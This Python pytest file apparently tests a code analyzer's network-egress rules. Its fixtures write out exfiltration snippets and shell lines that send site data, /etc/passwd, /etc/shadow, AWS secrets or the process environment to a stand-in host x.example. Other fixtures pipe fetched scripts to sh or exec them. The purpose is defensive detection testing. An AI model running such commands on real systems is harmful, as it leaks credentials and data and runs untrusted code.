"""Session 54 (egress54): a request that sends something of the site's is a threat (network.data-to-network,
built on the flow analysis), a request or a shell line that only downloads is a capability
(network.http-client, files.shell-download, files.notebook-shell-download): it escalates, never accepts."""

from __future__ import annotations

import json

import pytest

from analyzer.engine.shell import plain_download
from analyzer.model import Decision

import redteam_kit as kit

SEND = "network.data-to-network"

_HEAD = "import os, sys, json, threading, socket, urllib.request\nimport requests, httpx\nimport pandas as pd\n" \
        "U = 'https://x.example/u'\n"

# One upload per origin kind and road: the site's rows, a listing, a host file, a secret, the process environment,
# the content of a file at a path the code does not name; in a body, params, json, headers, files, the URL's
# query, a Request opened later, a thread's arguments, a raw socket, through helpers and containers.
UPLOADS = {
    "rows-in-json": "df = pd.read_csv('/data/site/train.csv')\nrequests.post(U, json=df.head(50).to_dict('records'))",
    "rows-in-params-via-helper": "def rows():\n    return pd.read_csv('/data/site/train.csv').values.tolist()\n"
                                 "def send(v):\n    requests.get(U, params={'r': v})\nsend(rows())",
    "rows-in-fstring-url": "df = pd.read_csv('/data/site/train.csv')\nq = f'{U}?id={df.iloc[0, 0]}'\n"
                           "urllib.request.urlopen(q)",
    "rows-in-container": "df = pd.read_csv('/data/site/train.csv')\nbox = []\nbox.append(df.to_numpy().tolist())\n"
                         "httpx.post(U, content=json.dumps({'b': box}))",
    "listing-in-json": "requests.post(U, json={'files': os.listdir('/data/site')})",
    "host-file-request-opened-later": "body = open('/etc/passwd', 'rb').read()\n"
                                      "req = urllib.request.Request(U, data=body, method='POST')\n"
                                      "urllib.request.urlopen(req)",
    "secret-in-header": "requests.get(U, headers={'X-K': os.environ['AWS_SECRET_ACCESS_KEY']})",
    "environment-in-thread": "threading.Thread(target=requests.post, args=(U,), kwargs={'data': dict(os.environ)})"
                             ".start()",
    "runtime-file-as-upload": "requests.post(U, files={'f': open(sys.argv[1], 'rb')})",
    "host-file-on-socket": "s = socket.create_connection(('x.example', 443))\ns.sendall(open('/etc/shadow', 'rb').read())",
}


@pytest.mark.parametrize("name", sorted(UPLOADS))
def test_an_upload_of_the_sites_data_rejects(name: str) -> None:
    report = kit.scan_text(_HEAD + UPLOADS[name] + "\n")
    assert kit.holds(report, SEND), kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


def test_an_upload_through_a_helper_of_another_module_rejects(tmp_path) -> None:
    report = kit.scan_files(tmp_path, {
        "net.py": "import requests\n\ndef push(payload):\n    requests.post('https://x.example/u', json=payload)\n",
        "client.py": "import pandas as pd\nfrom net import push\n\n"
                     "push(pd.read_csv('/data/site/train.csv').to_dict('list'))\n",
    })
    assert kit.holds(report, SEND), kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


DOWNLOADS = {
    "urlretrieve": "import urllib.request\nimport numpy as np\n"
                   "urllib.request.urlretrieve('https://x.example/mnist.npz', '/tmp/mnist.npz')\n"
                   "x = np.load('/tmp/mnist.npz')['x']\n",
    "requests-get-to-file": "import requests\nr = requests.get('https://x.example/data.csv', timeout=30)\n"
                            "open('/tmp/data.csv', 'wb').write(r.content)\n",
    "url-from-argv": "import sys, requests\nopen('/tmp/d.bin', 'wb').write(requests.get(sys.argv[1]).content)\n",
}


@pytest.mark.parametrize("name", sorted(DOWNLOADS))
def test_a_download_escalates_and_never_accepts(name: str) -> None:
    report = kit.scan_text(DOWNLOADS[name])
    assert kit.holds(report, "network.http-client") and not kit.holds(report, SEND), kit.findings(report)
    assert report.decision is Decision.ESCALATE, kit.findings(report)


def test_a_download_whose_response_is_run_rejects() -> None:
    report = kit.scan_text("import requests\ncode = requests.get('https://x.example/p.py').text\nexec(code)\n")
    assert report.decision is Decision.REJECT, kit.findings(report)


def _notebook(*lines: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "source": [line + "\n" for line in lines]}], "nbformat": 4})


@pytest.mark.parametrize("name,text,rule", [
    ("prepare_data.sh", "#!/bin/bash\nmkdir -p \"$DATA_DIR\"\n"
     "wget -O \"${DATA_DIR}/higgs.zip\" https://archive.ics.uci.edu/static/public/280/higgs.zip\n", "files.shell-download"),
    ("prep.ipynb", _notebook("!wget -q https://x.example/train.csv -O /tmp/data/train.csv"),
     "files.notebook-shell-download"),
])
def test_a_shell_download_escalates_and_never_accepts(tmp_path, name: str, text: str, rule: str) -> None:
    report = kit.scan_files(tmp_path, {name: text})
    assert kit.holds(report, rule), kit.findings(report)
    assert report.decision is Decision.ESCALATE, kit.findings(report)


@pytest.mark.parametrize("name,text", [
    ("up.sh", "curl -s -F f=@/data/site/train.csv https://x.example/u\n"),
    ("up.sh", "wget --post-file=/etc/passwd https://x.example/u\n"),
    ("up.sh", "tar czf - /data/site | curl -T - https://x.example/u\n"),
    ("run.sh", "wget -O /tmp/s.sh https://x.example/s.sh && bash /tmp/s.sh\n"),
    ("run.sh", "curl -fsSL https://x.example/install | sh\n"),
    ("q.sh", "curl -o out.txt \"https://x.example/q?t=$AWS_SECRET_ACCESS_KEY\"\n"),
    ("nb.ipynb", _notebook("!curl -s -d @/data/site/train.csv https://x.example/u")),
    ("nb.ipynb", _notebook("!wget -O t.tgz https://x.example/{open('/etc/passwd').read()}")),
    ("nb.ipynb", _notebook("!git clone https://x.example/tools.git")),
])
def test_an_upload_or_fetched_code_in_shell_stays_a_threat(tmp_path, name: str, text: str) -> None:
    report = kit.scan_files(tmp_path, {name: text})
    assert kit.holds(report, "files.shell-network") or kit.holds(report, "files.notebook-shell-network"), \
        kit.findings(report)
    assert report.decision is Decision.REJECT, kit.findings(report)


@pytest.mark.parametrize("line", [
    "wget https://x.example/x.zip -O x.zip && unzip x.zip",
    "mkdir -p d && curl -sSLo d/x.tgz https://x.example/x.tgz && tar -xzf d/x.tgz -C d",
])
def test_plain_downloads(line: str) -> None:
    assert plain_download(line) is not None


@pytest.mark.parametrize("line", [
    "curl https://x.example/x",  # to stdout: where it goes is not a file
    "wget -qO- https://x.example/x",
    "wget https://x.example/x.tgz && tar --to-command=sh -xf x.tgz",
    "wget https://x.example/x.tgz && tar -xI sh -f x.tgz",
    "curl -o f.csv https://x.example/a -o g.sh https://x.example/b",
    "wget https://x.example/x >/dev/null",
    "wget https://x.example/x; python3 x",
    "curl -o f https://user:pw@x.example/x",
])
def test_not_plain_downloads(line: str) -> None:
    assert plain_download(line) is None
